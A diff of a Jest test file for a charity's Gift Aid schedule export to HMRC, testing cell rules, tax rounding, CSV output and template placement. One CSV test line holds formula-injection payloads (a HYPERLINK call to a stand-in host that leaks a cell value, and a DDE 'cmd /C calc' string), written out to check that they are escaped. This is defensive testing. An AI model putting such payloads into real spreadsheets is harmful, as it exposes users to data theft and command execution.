@@ -1,14 +1,16 @@
 import { describe, expect, it } from '@jest/globals';
 import XLSX from 'xlsx';
+import { readFileSync } from 'node:fs';
+import { giftAidShares } from './claim.service.js';
 import {
   amountCell,
   dateCell,
   firstNameCell,
   houseCell,
   lastNameCell,
-  partCount,
   postcodeCell,
-  rowsOfPart,
+  ROWS_PER_CLAIM,
+  SCHEDULE_COLUMNS,
   type ScheduleRow,
   scheduleCells,
   scheduleCsv,
@@ -64,29 +66,35 @@ describe("HMRC's schedule cell rules", () => {
   });
 
   it('leaves cells that do not apply blank and marks sponsored events Yes', () => {
-    expect(scheduleCells(row())).toEqual(['Mrs', 'Ada', 'Lovelace', '12', 'SW1A 1AA', '', '', '05/04/26', '10.00']);
-    expect(scheduleCells(row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', sponsored: true }))).toEqual([
-      '',
-      '',
-      '',
-      '',
-      '',
-      'Online donations 2025-26',
-      'Yes',
-      '05/04/26',
-      '10.00',
-    ]);
+    expect(scheduleCells(row())).toEqual({
+      title: 'Mrs',
+      firstName: 'Ada',
+      lastName: 'Lovelace',
+      houseNameOrNumber: '12',
+      postcode: 'SW1A 1AA',
+      aggregatedDonations: '',
+      sponsoredEvent: '',
+      donationDate: '05/04/26',
+      amount: '10.00',
+    });
+    const aggregated = scheduleCells(row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', sponsored: true }));
+    expect(Object.values(aggregated)).toEqual(['', '', '', '', '', 'Online donations 2025-26', 'Yes', '05/04/26', '10.00']);
   });
 });
 
+const template = XLSX.read(readFileSync(new URL('../../../test/fixtures/gift-aid-schedule-template.xlsx', import.meta.url)), { cellDates: true });
+const templateSheet = template.Sheets[template.SheetNames[0]];
+
 describe('schedule files', () => {
-  it('splits 2,345 rows into files of 1,000, 1,000 and 345', () => {
-    const rows = Array.from({ length: 2345 }, (_, index) => index);
-    expect(partCount(rows.length)).toBe(3);
-    expect([1, 2, 3].map((part) => rowsOfPart(rows, part).length)).toEqual([1000, 1000, 345]);
-    expect(rowsOfPart(rows, 3)[0]).toBe(2000);
-    expect(partCount(1000)).toBe(1);
-    expect(partCount(0)).toBe(1);
+  it('shares the tax of adjustment lines so they add up exactly to Box 2', () => {
+    // 25 % of 1p, 1p and 2p is 1p in all (of 4p), though each line alone rounds to 0p, 0p and 1p (2p).
+    expect(giftAidShares([1, 1, 2])).toEqual([0, 0, 1]);
+    expect(giftAidShares([2, 2, 2])).toEqual([1, 1, 0]);
+    expect(giftAidShares([2550, 1003, 1003])).toEqual([637, 251, 251]);
+    for (const amounts of [[3, 3, 3], [1, 2, 3, 5, 7], [99, 101, 1]]) {
+      const total = amounts.reduce((sum, amount) => sum + amount, 0);
+      expect(giftAidShares(amounts).reduce((sum, share) => sum + share, 0)).toBe(Math.round(total / 4));
+    }
   });
 
   it('writes CSV with a header row, CRLF line ends and quotes only where needed', () => {
@@ -102,16 +110,44 @@ describe('schedule files', () => {
     expect(csv.split('\r\n')[1]).toBe(`Mrs,"'=HYPERLINK(""//ev.il/""&D2,""x"")",'+cmd|' /C calc'!A0,'@SUM(1),SW1A 1AA,,,05/04/26,10.00`);
   });
 
-  it('writes the same OpenDocument bytes each time, with a date cell and a number for the amount', () => {
-    const ods = scheduleOds([row()]);
-    expect(scheduleOds([row()]).equals(ods)).toBe(true);
-    const sheet = XLSX.read(ods, { type: 'buffer', cellDates: true }).Sheets.Schedule;
-    expect(sheet.A1.v).toBe('Title');
-    expect(sheet.I1.v).toBe('Amount');
-    expect(sheet.H2.t).toBe('d');
-    expect((sheet.H2.v as Date).toISOString().slice(0, 10)).toBe('2026-04-05');
-    expect(sheet.I2).toMatchObject({ t: 'n', v: 10 });
-    expect(sheet.F2).toBeUndefined();
+  it("writes HMRC's sheet: its name, Box 1, Box 2, the headings on row 23 and the rows from 25, where the template has them", () => {
+    const rows = Array.from({ length: ROWS_PER_CLAIM }, (_, index) => row({ donationDate: index ? '2026-04-05' : '2026-04-02', amountMinor: 1000 + index }));
+    rows[1] = row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', amountMinor: 2500 });
+    const ods = scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 });
+    expect(scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 }).equals(ods)).toBe(true);
+    const book = XLSX.read(ods, { type: 'buffer', cellDates: true });
+    expect(book.SheetNames).toEqual(template.SheetNames);
+    const sheet = book.Sheets[template.SheetNames[0]];
+    // The template's labels, where the template has them.
+    for (const cell of ['B1', 'D12', 'C13', 'D16', 'F16', 'C17', 'H20', 'B23', 'B1025']) expect(sheet[cell]?.v).toBe(templateSheet[cell].v);
+    // Box 1 (D13) a date shown DD/MM/YY, Box 2 (D17) the tax as a number: the template leaves both blank to fill.
+    expect(templateSheet.D13).toBeUndefined();
+    expect(sheet.D13).toMatchObject({ t: 'd', w: '30/03/26' });
+    expect((sheet.D13.v as Date).toISOString().slice(0, 10)).toBe('2026-03-30');
+    expect(sheet.D17).toMatchObject({ t: 'n', v: 6.38 });
+    expect(sheet.J20.f).toBe(templateSheet.J20.f);
+    // The headings are the template's, from B23 to K23, in its order.
+    const headings = (s: XLSX.WorkSheet) => 'BCDEFGHIJK'.split('').map((column) => s[`${column}23`].v);
+    expect(headings(sheet)).toEqual(headings(templateSheet));
+    expect(SCHEDULE_COLUMNS.map((column) => templateSheet[`${column.sheetColumn}23`].v)).toEqual(SCHEDULE_COLUMNS.map((column) => column.heading));
+    // Items 1 to 1,000 in column B from row 25, as in the template; the first and last rows are the first and last donations.
+    expect([sheet.B25.v, sheet.B1024.v]).toEqual([templateSheet.B25.v, templateSheet.B1024.v]);
+    expect(sheet.C25.v).toBe('Mrs');
+    expect(sheet.J25.t).toBe('d');
+    expect((sheet.J25.v as Date).toISOString().slice(0, 10)).toBe('2026-04-02');
+    expect(sheet.K25).toMatchObject({ t: 'n', v: 10 });
+    expect(sheet.H26.v).toBe('Online donations 2025-26');
+    expect(sheet.C26).toBeUndefined();
+    expect(sheet.K1024).toMatchObject({ t: 'n', v: 19.99 });
+    expect(sheet.C1024.v).toBe('Mrs');
+    expect(sheet.C1025).toBeUndefined();
+  });
+
+  it('leaves Box 1 and Box 2 blank when the claim has no donations or no adjustment, and refuses more than 1,000 rows', () => {
+    const sheet = XLSX.read(scheduleOds({ rows: [], earliestDonationDate: null, overclaimedTaxMinor: 0 }), { type: 'buffer' }).Sheets.R68GAD_V1_00_0_EN;
+    expect(sheet.D13).toBeUndefined();
+    expect(sheet.D17).toBeUndefined();
+    expect(() => scheduleOds({ rows: Array.from({ length: 1001 }, () => row()), earliestDonationDate: null, overclaimedTaxMinor: 0 })).toThrow(/at most 1000 rows/);
   });
 });
 
